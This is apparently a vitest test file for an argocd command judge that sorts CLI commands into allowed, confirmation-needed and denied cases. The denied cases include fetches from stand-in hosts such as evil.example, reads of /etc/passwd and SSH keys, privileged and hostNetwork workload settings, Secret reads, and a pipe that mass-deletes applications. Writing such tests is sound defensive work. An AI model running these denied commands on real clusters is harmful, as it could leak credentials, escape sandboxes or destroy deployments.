import { describe, expect, test } from "vitest";
import { judge } from "../../judge.ts";
import type { JudgeOptions } from "../../judge-options.ts";

function decide(command: string, options: JudgeOptions = {}): string {
  return judge(command, options).decision;
}

/** A manifest of an Application with values for its chart. */
function app(values: string): string {
  return `{"kind":"Application","spec":{"source":{"helm":{"valuesObject":${values}}}}}`;
}

describe("allowed", () => {
  test.each([
    // Applications.
    "argocd app list",
    "argocd app list -N argocd -p default -p prod -o name",
    "argocd app list -l 'app.kubernetes.io/instance notin (a,b)'",
    "argocd app list -l '!team'",
    "argocd app list -r https://github.com/org/repo.git -P overlays/prod",
    "argocd app list -c https://kubernetes.default.svc",
    "argocd app list --cluster in-cluster --grpc-web",
    "argocd app list --kube-context prod --argocd-context cd.example.com",
    "argocd --argocd-context cd.example.com:443/path app list",
    "argocd app list --insecure=false --core=false --plaintext=false --port-forward=false",
    "argocd app list --http-retry-max 3 --prompts-enabled=false",
    "argocd app get web",
    "argocd app get argocd/web -o json",
    "argocd app get web -N team-a --show-operation --show-params",
    "argocd app get web --source-name chart --source-position 1 --timeout 60",
    "argocd app get web --refresh",
    "argocd app get web --hard-refresh -o tree=detailed",
    "argocd app get help",
    "argocd app diff web",
    "argocd app diff web --revision v1.2.3 --exit-code=false",
    "argocd app diff web --server-side-diff --hard-refresh --diff-exit-code 20",
    "argocd app diff web --revisions 0.0.1 --source-positions 1",
    "argocd app diff web --local ''",
    "argocd app history web --output id",
    "argocd app resources web",
    "argocd app resources web --orphaned --output tree=detailed --project prod",
    "argocd app manifests web --source=live",
    "argocd app manifests web --revision HEAD",
    "argocd app manifests web --revisions 0.0.1 --source-names base",
    "argocd app logs web",
    "argocd app logs web --tail 100 --since-seconds 3600 -c app -p",
    "argocd app logs web --group apps --kind Deployment --namespace prod --name web",
    "argocd app logs web --filter 'error: x*' -m --until-time 2026-01-01T00:00:00Z",
    "argocd app logs web -f=false --follow=false",
    "argocd app wait web",
    "argocd app wait web api team-a/db --sync --health --operation",
    "argocd app wait -l app.kubernetes.io/instance=web --timeout 600",
    "argocd app wait web --resource apps:Deployment:web --resource ':Service:prod/web'",
    "argocd app wait web --resource '!*:Service:*' --degraded --suspended",
    "argocd app wait web --delete --timeout 1800",
    "argocd app wait web --hydrated --timeout 0",
    "argocd app get-resource web --kind Pod",
    "argocd app get-resource web --kind Pod --resource-name web-0 --filter-fields status.podIP,status.hostIP",
    "argocd app get-resource web --kind ConfigMap -o yaml --project prod --show-managed-fields",
    "argocd app actions list web",
    "argocd app actions list web --kind Rollout --group argoproj.io --namespace prod --resource-name web -o json",
    "argocd app",
    "argocd app actions",
    // A sync of what is named.
    "argocd app sync web",
    "argocd app sync web api argocd/db",
    "argocd app sync web -N argocd --timeout 300 --async",
    "argocd app sync -l team=payments",
    "argocd app sync --project prod --project dev",
    "argocd app sync web --revision v1.2.3 --strategy hook",
    "argocd app sync web --dry-run",
    "argocd app sync web --dry-run --prune --force --replace",
    "argocd app sync web --resource apps:Deployment:web --resource argoproj.io:Rollout:prod/web",
    "argocd app sync web --resource '!apps:Deployment:web'",
    "argocd app sync web --label app=web --info 'reason=a b' --apply-out-of-sync-only --server-side",
    "argocd app sync web --retry-limit 3 --retry-backoff-duration 10s --retry-refresh",
    "argocd app sync web --preview-changes --assumeYes",
    "argocd app sync web --prune=false --force=false",
    // Everything around them.
    "argocd appset list -l a=b -p default -o yaml",
    "argocd appset get web",
    "argocd appset get argocd/web --show-params",
    "argocd appset get web --appset-namespace argocd",
    "argocd proj list -o name",
    "argocd project get default -o yaml",
    "argocd proj role list default",
    "argocd proj role get default ci",
    "argocd proj role token-list default ci -u",
    "argocd proj windows list default -o json",
    "argocd proj source-integrity git policies list default",
    "argocd proj",
    "argocd proj role",
    "argocd cluster list -o server",
    "argocd cluster get in-cluster",
    "argocd cluster get https://10.0.0.1:6443 -o json",
    "argocd cluster get arn:aws:eks:eu-west-1:123456789012:cluster/prod",
    "argocd repo list -o url",
    "argocd repo list --refresh hard",
    "argocd repo get https://github.com/org/repo --project prod",
    "argocd repo get git@github.com:org/repo.git -o yaml --refresh=hard",
    "argocd repocreds list",
    "argocd cert list --hostname-pattern '*.example.com' --sort hostname",
    "argocd gpg list",
    "argocd gpg get 4AEE18F83AFDEB23",
    "argocd account list",
    "argocd account get -a ci -o json",
    "argocd account get-user-info",
    "argocd account whoami -o yaml",
    "argocd account can-i sync applications '*'",
    "argocd account can-i '*' clusters 'https://x/*'",
    "argocd version",
    "argocd version --client --short -o json --request-timeout 5s",
    "argocd completion zsh",
    // Help does nothing else.
    "argocd",
    "argocd help",
    "argocd help app delete",
    "argocd app delete --help",
    "argocd app delete web -h",
    "argocd login --help",
    "argocd admin export -h",
    "argocd cluster add --help",
    "argocd app sync --prune --help",
    // Behind it.
    "argocd app list -o name | wc -l",
    "argocd app get web -o json | jq '.status.resources[] | select(.status != \"Synced\") | .name'",
    "argocd app diff web | head -50",
    "argocd app list | awk '$5 != \"Synced\" {print $1}'",
  ])("%s", (command) => expect(decide(command)).toBe("allow"));
});

describe("left to a person", () => {
  test.each([
    "argocd app sync web --prune",
    "argocd app sync web --force --timeout 60",
    "argocd app sync web --replace",
    "argocd app sync -l team=payments --prune=true",
    "argocd app sync web --prune --dry-run=false",
    "argocd app rollback web",
    "argocd app rollback argocd/web 12 --prune --timeout 300",
    "argocd app set web --sync-policy none",
    "argocd app set web -p image.tag=1.2.3 --helm-set replicas=3 -N argocd",
    "argocd app set web --values values.yaml --repo https://github.com/org/other",
    "argocd app set web --values-literal-file values.yaml",
    "argocd app set web --helm-set-file a=config/a.txt",
    "argocd app unset web -p image.tag --values values.yaml",
    `argocd app patch web --patch '[{"op":"replace","path":"/spec/source/path","value":"x"}]'`,
    `argocd app patch web --patch '{"spec":{"syncPolicy":null}}' --type merge`,
    "argocd app create web --repo https://github.com/org/repo --path web --dest-namespace prod --dest-name in-cluster",
    "argocd app create -f app.yaml --upsert",
    "argocd app create -f -",
    "argocd app add-source web --repo https://github.com/org/repo --path x",
    "argocd app remove-source web --source-position 1",
    "argocd app actions run web restart --kind Deployment",
    "argocd app actions run argocd/web resume --kind Rollout --resource-name web --all",
    "argocd appset create appset.yaml --upsert",
    "argocd appset create appset.yaml --dry-run",
  ])("%s", (command) => expect(decide(command)).toBe("confirm"));
});

describe("denied", () => {
  test.each([
    // Deleting, stopping, editing.
    "argocd app delete web",
    "argocd app delete web --cascade=false -y",
    "argocd app delete -l team=payments --yes",
    "argocd app delete-resource web --kind Deployment --resource-name web --force",
    "argocd app delete-resource web --kind Pod --all",
    "argocd app patch-resource web --kind ClusterRole --patch '{}' --resource-name x",
    "argocd app terminate-op web",
    "argocd app confirm-deletion web",
    "argocd app edit web",
    "argocd proj edit default",
    "argocd appset delete web --yes",
    "argocd appset generate appset.yaml",
    "argocd app list -o name | argocd app delete -y",
    // From this machine.
    "argocd app diff web --local .",
    "argocd app diff web --local=manifests --server-side-generate",
    "argocd app sync web --local ./manifests --local-repo-root .",
    "argocd app sync web --dry-run --local manifests",
    "argocd app manifests web --local /etc",
    "argocd app diff web --local /etc --help",
    "argocd app create -f /etc/passwd",
    "argocd app create -f https://evil.example/app.yaml",
    "argocd app create web --values-literal-file ../x",
    "argocd app set web --values-literal-file https://evil.example/v.yaml",
    "argocd appset create https://evil.example/appset.yaml",
    "argocd appset create ../appset.yaml",
    "argocd cert add-tls x --from /etc/ssl/x.pem --help",
    // Keeps open.
    "argocd app logs web -f",
    "argocd app logs web --follow=true --tail 5",
    "argocd app logs web -pf",
    "argocd app sync web --preview-changes",
    "argocd app list --prompts-enabled",
    "argocd app wait web --timeout 86400",
    // What Argo CD works with.
    "argocd cluster add prod",
    "argocd cluster rm https://10.0.0.1",
    "argocd cluster set in-cluster --label a=b",
    "argocd cluster rotate-auth prod",
    "argocd repo add https://github.com/org/repo --username x --password y",
    "argocd repo add git@github.com:org/repo.git --ssh-private-key-path ~/.ssh/id_rsa",
    "argocd repo rm https://github.com/org/repo",
    "argocd repocreds add https://github.com/org --password x",
    "argocd repocreds rm https://github.com/org",
    "argocd proj create prod -d '*,*' -s '*'",
    "argocd proj create -f proj.yaml",
    "argocd proj delete prod",
    "argocd proj set prod --description x",
    "argocd proj add-destination prod https://kubernetes.default.svc '*'",
    "argocd proj add-source prod https://github.com/org/repo",
    "argocd proj allow-cluster-resource prod '*' '*'",
    "argocd proj deny-namespace-resource prod '' Secret",
    "argocd proj remove-orphaned-ignore prod apps Deployment",
    "argocd proj role create prod ci",
    "argocd proj role add-group prod ci devs",
    "argocd proj role delete prod ci",
    "argocd proj role add-policy prod ci -a sync -o web",
    "argocd proj role token-create prod ci",
    "argocd proj role remove-token prod ci 1696774900",
    "argocd proj windows add prod --kind allow --schedule '* * * * *' --duration 1h",
    "argocd proj windows disable-manual-sync prod 0",
    "argocd proj windows delete prod 0",
    "argocd proj source-integrity git policies add prod --gpg-mode none",
    "argocd cert add-ssh --batch",
    "argocd cert rm github.com",
    "argocd gpg add --from key.asc",
    "argocd gpg rm 4AEE18F83AFDEB23",
    // As whom, and where.
    "argocd login cd.example.com",
    "argocd login cd.example.com --sso --core",
    "argocd relogin --password x",
    "argocd logout cd.example.com",
    "argocd context",
    "argocd ctx prod",
    "argocd context prod --delete",
    "argocd configure --prompts-enabled",
    "argocd account update-password --current-password x --new-password y",
    "argocd account generate-token --account ci",
    "argocd account delete-token abc",
    "argocd account session-token",
    "argocd account bcrypt --password x",
    "argocd app list --server cd.evil.example",
    "argocd app list --auth-token x",
    "argocd --auth-token=x app get web",
    "argocd app list --config /tmp/config",
    "argocd app list --core",
    "argocd app list --core=true --help",
    "argocd app list --insecure",
    "argocd app list --plaintext=1",
    "argocd app list --port-forward",
    "argocd app list --port-forward-namespace evil",
    "argocd app list -H 'X-User: admin'",
    "argocd app list --header=a:b,c:d",
    "argocd app list --client-crt a --client-crt-key b",
    "argocd app list --server-crt a",
    "argocd app list --server-name evil",
    "argocd app list --repo-server-name evil",
    "argocd app list --redis-name evil",
    "argocd app list --grpc-web-root-path /evil",
    "argocd app list --loglevel debug",
    "argocd version --kubeconfig x",
    "argocd version --token x",
    "argocd version --user admin --cluster evil",
    "argocd version --insecure-skip-tls-verify",
    "argocd app --proxy-url http://evil.example",
    "argocd version --context '*'",
    // Past the server.
    "argocd admin",
    "argocd admin export",
    "argocd admin export -o backup.yaml",
    "argocd admin import -",
    "argocd admin initial-password",
    "argocd admin redis-initial-password",
    "argocd admin dashboard",
    "argocd admin cluster kubeconfig https://x out",
    "argocd admin cluster stats",
    "argocd admin settings validate",
    "argocd admin settings rbac can role:admin get applications",
    "argocd admin settings resource-overrides action web.yaml restart",
    "argocd admin notifications trigger run on-sync web",
    "argocd admin proj update-role-policy '*' get get",
    "argocd admin app generate-spec web --file x",
    // Live Secrets.
    "argocd app get-resource web --kind Secret",
    "argocd app get-resource web --kind=Secret -o yaml --resource-name db",
    "argocd app get-resource web --kind Secret -o json --filter-fields data",
    // Rights, and workloads that leave their sandbox, by whatever way they come.
    "argocd app set web --helm-set securityContext.privileged=true",
    "argocd app set web -p hostNetwork=true",
    `argocd app patch web --type merge --patch '{"spec":{"source":{"helm":{"values":"hostPID: true\\n"}}}}'`,
    `argocd app patch web --patch '[{"op":"add","path":"/spec/source/helm/valuesObject/hostNetwork","value":true}]'`,
    // Words that name nothing.
    "argocd app get 'web*'",
    "argocd app get -- -x",
    "argocd app get a/b/c",
    "argocd app get /web",
    "argocd app sync 'argocd/*'",
    "argocd app sync web-{1..3}",
    "argocd app get web -N 'a b'",
    "argocd app logs web -c '../x'",
    "argocd app logs web --kind 'Dep*'",
    "argocd app sync web --resource 'apps:Dep*:web'",
    "argocd app sync web --resource apps:web",
    "argocd app wait web --resource a:b:c/d/e",
    "argocd proj get '*'",
    "argocd cluster get 'in*'",
    "argocd app actions run web 'rest*' --kind Deployment",
    "argocd app sync wеb",
    // What argocd itself would refuse, or leave out without a word.
    "argocd app get web -o web.json",
    "argocd app actions list web --out file",
    "argocd app get",
    "argocd app get web api",
    "argocd app list web",
    "argocd app sync",
    "argocd app sync -l ''",
    "argocd app sync web api -l a=b",
    "argocd app wait",
    "argocd app rollback",
    "argocd app rollback web latest",
    "argocd app actions run web restart",
    "argocd app actions run web --kind Deployment",
    "argocd app get-resource web",
    "argocd app wait web --timeout 5m",
    "argocd app bogus",
    "argocd bogus",
    "argocd account can-i sync applications",
    "argocd completion tcsh",
    "argocd version now",
    "argocd app sync web --bogus",
  ])("%s", (command) => expect(decide(command)).toBe("deny"));
});

describe("what depends on the caller", () => {
  test("readonly mode takes neither a refresh nor a dry run for reading", () => {
    const options = { mode: "readonly" } as const;
    expect(decide("argocd app get web", options)).toBe("allow");
    expect(decide("argocd app get web --refresh=false", options)).toBe("allow");
    expect(decide("argocd app get web --refresh", options)).toBe("deny");
    expect(decide("argocd repo list --refresh hard", options)).toBe("deny");
    expect(decide("argocd app sync web --dry-run", options)).toBe("deny");
  });

  test("the namespace of an Application is no place that is protected", () => {
    for (const command of ["argocd app sync argocd/web", "argocd app sync web -N kube-system"]) {
      expect(decide(command, { namespace: "argocd" })).toBe("allow");
    }
    expect(decide("argocd app rollback argocd/web 3", { namespace: "kube-system" })).toBe("confirm");
  });

  test("live Secrets are for a caller that redacts whole documents", () => {
    const options = { capabilities: ["redact"] } as const;
    expect(decide("argocd app get-resource web --kind Secret -o yaml", options)).toBe("allow");
    expect(decide("argocd app get-resource web --kind Secret", options)).toBe("deny");
    expect(decide("argocd app get-resource web --kind Secret -o yaml --filter-fields data", options)).toBe("deny");
  });

  test("hosts that are listed may be fetched from", () => {
    const options = { hosts: ["git.example.com"] } as const;
    expect(decide("argocd app create -f https://git.example.com/app.yaml", options)).toBe("confirm");
    expect(decide("argocd app create -f https://evil.example/app.yaml", options)).toBe("deny");
  });

  test("what is handed in is looked through", () => {
    expect(decide("argocd app create -f -", { stdin: app('{"replicas":2}') })).toBe("confirm");
    expect(decide("argocd app create -f -", { stdin: app('{"hostNetwork":true}') })).toBe("deny");
    expect(decide("argocd app create -f a.json", { files: { "a.json": app('{"hostNetwork":true}') } })).toBe("deny");
    expect(decide("argocd appset create a.json", { files: { "a.json": app('{"hostPath":{"path":"/"}}') } })).toBe(
      "deny",
    );
    expect(decide("argocd app set web --values-literal-file v", { files: { v: "privileged: true\n" } })).toBe("deny");
  });

  test("every context that is named has to be among those that may be used", () => {
    const options = { contexts: ["prod"] } as const;
    expect(decide("argocd app list --argocd-context prod", options)).toBe("allow");
    expect(decide("argocd app list --argocd-context other", options)).toBe("deny");
    expect(decide("argocd app list --kube-context prod --argocd-context other", options)).toBe("deny");
    expect(decide("argocd version --context other", options)).toBe("deny");
  });
});
